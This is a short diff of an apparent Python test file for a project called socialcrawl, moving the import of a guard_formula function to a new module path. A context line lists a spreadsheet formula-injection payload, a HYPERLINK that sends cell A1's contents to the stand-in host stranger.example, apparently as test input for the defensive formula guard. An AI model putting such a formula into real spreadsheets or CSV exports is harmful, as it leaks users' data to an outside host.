@@ -10,7 +10,7 @@ from commands import COMMAND, ENVIRONMENT, socialcrawl
 from exporting import a_town, exported
 
 from socialcrawl.errors import SettingsError
-from socialcrawl.exporters.csv_rows import guard_formula
+from socialcrawl.formats.csv_rows import guard_formula
 
 FORMULAS = [
     '=HYPERLINK("http://stranger.example/?x="&A1,"see")',
